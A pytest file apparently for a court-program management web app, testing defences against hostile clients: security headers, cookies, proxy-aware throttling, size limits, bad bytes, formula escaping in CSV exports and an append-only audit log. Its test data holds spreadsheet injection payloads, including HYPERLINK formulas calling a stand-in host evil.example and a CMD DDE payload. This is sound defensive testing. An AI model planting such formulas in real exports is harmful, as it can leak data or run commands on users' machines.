"""Hostile clients: headers and cookies, proxies, sizes, bad bytes, formulas, the audit trigger.

Each of these was found open by trying the service as an attacker would (issue 12):
no security headers, a cookie without SameSite, throttling that saw only the
proxy's address, 50 MB bodies read and stored, spreadsheet formulas in exports,
500s from NUL bytes, overflowing numbers and years 1 or 9999, an audit log that a
plain UPDATE could change.
"""

from __future__ import annotations

import csv
import io
import logging
import re
from typing import Any

import pytest
from conftest import PASSWORD, sign_in
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis_profiles import examples
from sqlalchemy import select, text
from sqlalchemy.exc import DBAPIError

from telejt import create_app
from telejt.audit.models import AuditEvent
from telejt.audit.retention import purge_expired_audit_events
from telejt.audit.services import record_access
from telejt.clock import now
from telejt.extensions import db
from telejt.logmask import mask_phones
from telejt.sms.backends import ConsoleSmsSender
from telejt.sms.models import InboundMessage
from telejt.spreadsheet import spreadsheet_cell

# ---- headers and cookies ------------------------------------------------------------------


def test_every_page_carries_the_security_headers(client, make_staff) -> None:
    sign_in(client, make_staff("coordinator"))
    for path in ("/login", "/participants", "/healthz", "/api/v1/openapi.json"):
        headers = client.get(path).headers
        policy = headers["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy, path
        assert "frame-ancestors 'none'" in policy and "object-src 'none'" in policy
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "no-referrer"
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["Cache-Control"] == "no-store", path
        assert "Strict-Transport-Security" not in headers  # not outside production
    static = client.get("/static/telejt.css")
    assert static.headers.get("Cache-Control") != "no-store"  # no personal data: cacheable
    static.close()


def test_inline_styles_carry_the_responses_nonce(client, make_participant, make_staff) -> None:
    participant = make_participant()
    sign_in(client, make_staff("coordinator", courts=[participant.court]))
    response = client.get(f"/reports/participants/{participant.id}")
    nonce = re.search(r"'nonce-([^']+)'", response.headers["Content-Security-Policy"]).group(1)
    page = response.get_data(as_text=True)
    assert f'<style nonce="{nonce}">' in page
    assert "onclick=" not in page and " style=" not in page


def test_exports_with_personal_data_are_not_stored(client, make_participant, make_staff) -> None:
    participant = make_participant()
    sign_in(client, make_staff("coordinator", courts=[participant.court]))
    for suffix in (".csv", ".pdf", "/export.json"):
        base = "/participants" if suffix == "/export.json" else "/reports/participants"
        response = client.get(f"{base}/{participant.id}{suffix}")
        assert response.status_code == 200, suffix
        assert response.headers["Cache-Control"] == "no-store", suffix


def test_the_session_cookie_is_samesite_lax_httponly(client, make_staff) -> None:
    user = make_staff("coordinator")
    response = client.post("/login", data={"email": user.email, "password": PASSWORD})
    cookie = response.headers["Set-Cookie"]
    assert "SameSite=Lax" in cookie and "HttpOnly" in cookie


def test_production_adds_hsts_and_a_secure_host_only_cookie(app_config, committed_db) -> None:
    production = create_app({**app_config, "TELEJT_ENV": "production"})
    with production.app_context():
        from telejt.auth.services import create_staff_user

        assert production.config["SESSION_COOKIE_SECURE"] is True
        assert production.config["SESSION_COOKIE_NAME"] == "__Host-telejt"
        client = production.test_client()
        response = client.get("/login", base_url="https://telejt.example.mx")
        assert response.headers["Strict-Transport-Security"].startswith("max-age=31536000")
        assert (
            "connect-src 'self' wss://telejt.example.mx"
            in response.headers["Content-Security-Policy"]
        )
        user = create_staff_user(email="hsts@staff.example.mx", role="admin", password=PASSWORD)
        db.session.commit()
        try:
            production.config["TELEJT_TOTP"] = "off"
            login = client.post(
                "/login",
                data={"email": user.email, "password": PASSWORD},
                base_url="https://telejt.example.mx",
            )
            cookie = login.headers["Set-Cookie"]
            assert cookie.startswith("__Host-telejt=") and "Secure" in cookie
        finally:
            db.session.remove()
            db.engine.dispose()


def test_the_session_link_never_leaks_by_referer(client, make_participant) -> None:
    from telejt.planning.models import Contact

    participant = make_participant()
    contact = db.session.scalar(
        select(Contact).where(Contact.participant_id == participant.id, Contact.kind == "session")
    )
    response = client.get(f"/s/{contact.join_token}")
    assert response.headers["Referrer-Policy"] == "no-referrer"
    assert response.headers["Cache-Control"] == "no-store"


# ---- proxies ------------------------------------------------------------------------------


def _login_from(client: Any, email: str, password: str, forwarded_for: str) -> Any:
    return client.post(
        "/login",
        data={"email": email, "password": password},
        headers={"X-Forwarded-For": forwarded_for},
        environ_base={"REMOTE_ADDR": "10.0.0.254"},  # the proxy
    )


def test_behind_one_proxy_throttling_and_audit_see_the_visitor(app_config, committed_db) -> None:
    from telejt.auth.services import create_staff_user

    proxied = create_app({**app_config, "TELEJT_PROXY_HOPS": 1})
    with proxied.app_context():
        judge = create_staff_user(email="jueza@proxy.example.mx", role="admin", password=PASSWORD)
        db.session.commit()
        client = proxied.test_client()
        for attempt in range(20):  # someone, somewhere, guesses
            _login_from(client, judge.email, "wrong-password!", f"203.0.113.{attempt % 3}")
        # the judge, from her own address behind the same proxy, still logs in
        assert _login_from(client, judge.email, PASSWORD, "198.51.100.7").status_code == 302
        addresses = set(
            db.session.scalars(
                select(AuditEvent.remote_addr).where(AuditEvent.staff_id == judge.id)
            )
        )
        assert addresses == {"203.0.113.0", "203.0.113.1", "203.0.113.2", "198.51.100.7"}
        db.session.remove()
        db.engine.dispose()


def test_without_proxy_hops_a_forged_header_is_ignored(client, make_staff) -> None:
    user = make_staff("coordinator")
    _login_from(client, user.email, "wrong-password!", "1.2.3.4")
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "auth.login_failed"))
    assert event.remote_addr == "10.0.0.254"


# ---- sizes --------------------------------------------------------------------------------


def test_a_large_webhook_body_is_refused_before_anything(client) -> None:
    body = b"MessageSid=SM1&Body=" + b"x" * (100 * 1024)
    response = client.post(
        "/twilio/sms",
        data=body,
        headers={"Content-Type": "application/x-www-form-urlencoded", "X-Twilio-Signature": "x"},
    )
    assert response.status_code == 413
    assert db.session.scalar(select(InboundMessage)) is None


def test_any_body_over_the_limit_is_refused(client, make_staff) -> None:
    sign_in(client, make_staff("coordinator"))
    response = client.post(
        "/participants/new",
        data=b"name=" + b"x" * (1024 * 1024 + 1),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert response.status_code == 413


# ---- bad bytes, numbers and dates ---------------------------------------------------------


def test_nul_bytes_are_400_and_change_nothing(client, make_staff) -> None:
    user = make_staff("coordinator")
    assert client.get("/login?next=%00").status_code == 400
    assert client.post("/login", data={"email": "a\x00@b.mx", "password": "x"}).status_code == 400
    sign_in(client, user)
    assert client.get("/participants?status=a%00b").status_code == 400
    before = db.session.scalar(select(db.func.count(AuditEvent.id)))
    assert client.post("/participants/new", data={"name": "Ana\x00"}).status_code == 400
    assert db.session.scalar(select(db.func.count(AuditEvent.id))) == before


def test_ids_beyond_a_bigint_do_not_exist(client, make_staff) -> None:
    sign_in(client, make_staff("coordinator"))
    for path in ("/participants/9223372036854775808", "/dashboard/alerts/99999999999999999999/row"):
        assert client.get(path).status_code == 404, path


STAFF_PAGES = ["/dashboard", "/audit", "/audit.csv", "/participants", "/therapist"]
QUERY_NAMES = ["page", "min_misses", "participant_id", "staff_id", "date_from", "date_to",
               "from", "to", "status", "sort", "dir", "alerts", "q", "phase"]  # fmt: skip
hostile_values = st.one_of(
    st.sampled_from(["0001-01-01", "9999-12-31", "1-1-1", "10000-01-01", "2026-02-30"]),
    st.sampled_from(["99999999999999999999", "9223372036854775808", "-1", "0", "1e9", "NaN"]),
    st.text(
        alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"),
        max_size=40,
    ),
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
)


@settings(
    max_examples=examples(60),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    role=st.sampled_from(["coordinator", "court", "admin", "therapist"]),
    page=st.sampled_from(STAFF_PAGES),
    query=st.dictionaries(st.sampled_from(QUERY_NAMES), hostile_values, max_size=4),
)
def test_staff_pages_answer_hostile_queries_without_a_500(
    client, make_court, make_staff, role, page, query
) -> None:
    court = make_court()
    extra = {"court_position": "judge"} if role == "court" else {}
    sign_in(client, make_staff(role, courts=[] if role == "admin" else [court], **extra))
    response = client.get(page, query_string=query)
    assert response.status_code < 500, (page, query)


@pytest.mark.parametrize(
    "query",
    [
        {"from": "0001-01-01", "to": "0001-01-02"},
        {"from": "9999-12-01", "to": "9999-12-31"},
        {"to": "0001-01-01"},
        {"from": "2026-02-30"},
    ],
)
def test_report_dates_out_of_range_are_a_400(client, make_participant, make_staff, query) -> None:
    participant = make_participant()
    sign_in(client, make_staff("coordinator", courts=[participant.court]))
    for suffix in ("", ".csv", ".pdf"):
        response = client.get(f"/reports/participants/{participant.id}{suffix}", query_string=query)
        assert response.status_code == 400, (suffix, query)


def test_api_instants_in_year_1_or_9999_are_a_422(client, make_staff) -> None:
    from telejt.auth.services import create_api_token

    user = make_staff("coordinator")
    _row, token = create_api_token(user)
    db.session.commit()
    for instant in ("0001-01-01T00:00:00+01:00", "9999-12-31T23:00:00-05:00"):
        response = client.post(
            "/api/v1/sessions",
            json={"participant_id": 1, "starts_at": instant, "minutes": 50, "modality": "video"},
            headers={"Authorization": f"Bearer {token}"},
        )
        assert response.status_code == 422, instant


# ---- formulas in exports ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/x","Clic")',
            '\'=HYPERLINK("http://evil.example/x","Clic")',
        ),
        ("+52 81 5555 0001", "'+52 81 5555 0001"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Ana López", "Ana López"),
        (-5, -5),
        (None, None),
    ],
)
def test_spreadsheet_cells(value: Any, cell: Any) -> None:
    assert spreadsheet_cell(value) == cell


def test_a_user_agent_formula_is_text_in_the_audit_csv(client, make_staff) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"ver")'
    client.post(
        "/login",
        data={"email": "nadie@x.mx", "password": "nope-nope-nope"},
        headers={"User-Agent": hostile},
    )
    sign_in(client, make_staff("admin"))
    rows = list(csv.reader(io.StringIO(client.get("/audit.csv").get_data(as_text=True))))
    agents = [row[10] for row in rows[1:] if row[4] == "auth.login_failed"]
    assert agents == ["'" + hostile]


def test_a_participants_name_formula_is_text_in_the_report_csv(
    client, make_participant, make_staff
) -> None:
    participant = make_participant(name="=CMD|' /C calc'!A0")
    sign_in(client, make_staff("coordinator", courts=[participant.court]))
    text_csv = client.get(f"/reports/participants/{participant.id}.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text_csv.lstrip("\ufeff"))))
    # the contact rows, up to the blank row before the report's disclaimer
    assert all(row[1] == "'=CMD|' /C calc'!A0" for row in rows[1 : rows.index([])])
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# ---- the audit log cannot be rewritten ----------------------------------------------------


@pytest.mark.postgres_only
def test_a_plain_update_or_delete_of_the_audit_log_is_refused(app_ctx, is_postgres) -> None:
    if not is_postgres:
        pytest.skip("the trigger is PostgreSQL's")
    event = record_access(None, "participant.read", "participant", 1, participant_id=1)
    db.session.commit()
    for statement in (
        f"UPDATE audit_events SET action = 'nothing' WHERE id = {event.id}",
        f"DELETE FROM audit_events WHERE id = {event.id}",
        "TRUNCATE audit_events",
    ):
        with pytest.raises(DBAPIError, match="append-only"), db.session.begin_nested():
            db.session.execute(text(statement))
    db.session.expire_all()
    assert db.session.get(AuditEvent, event.id).action == "participant.read"


def test_only_the_retention_job_deletes_and_it_is_audited(app_ctx, frozen_clock) -> None:
    old = record_access(None, "participant.read", "participant", 1, participant_id=1)
    db.session.commit()
    old_id = old.id
    frozen_clock.advance(days=round(5 * 365.25) + 1)  # TELEJT_RETENTION_YEARS = 5
    recent = record_access(None, "participant.read", "participant", 2, participant_id=2)
    db.session.commit()
    recent_id = recent.id
    assert purge_expired_audit_events() == 1
    db.session.expunge_all()
    assert db.session.get(AuditEvent, old_id) is None
    assert db.session.get(AuditEvent, recent_id) is not None
    purge = db.session.scalar(
        select(AuditEvent).where(AuditEvent.action == "audit.retention_purge")
    )
    assert purge.detail["deleted"] == 1


# ---- logs ---------------------------------------------------------------------------------


def test_logs_mask_phone_numbers() -> None:
    assert mask_phones("SMS from +52 81 5555 0001 refused") == "SMS from +••••••••••01 refused"
    assert mask_phones("whatsapp:+5218155550001") == "whatsapp:+•••••••••••01"
    assert mask_phones("llamar al 8155550001") == "llamar al ••••••••01"
    assert mask_phones("at 2026-03-02 15:00:00, id 12345") == "at 2026-03-02 15:00:00, id 12345"


def test_a_log_record_never_holds_a_whole_number(caplog) -> None:
    caplog.set_level(logging.INFO)
    logging.getLogger("telejt.test").warning("unknown sender %s", "+528155550001")
    assert "+528155550001" not in caplog.text and "01" in caplog.text


def test_the_console_backend_logs_no_text_and_no_number(caplog, capsys) -> None:
    caplog.set_level(logging.DEBUG)
    ConsoleSmsSender(show_content=False).send(to="+528155550001", body="Tu cita es mañana")
    printed = capsys.readouterr().out
    for where in (caplog.text, printed):
        assert "Tu cita" not in where and "8155550001" not in where
    assert now() is not None
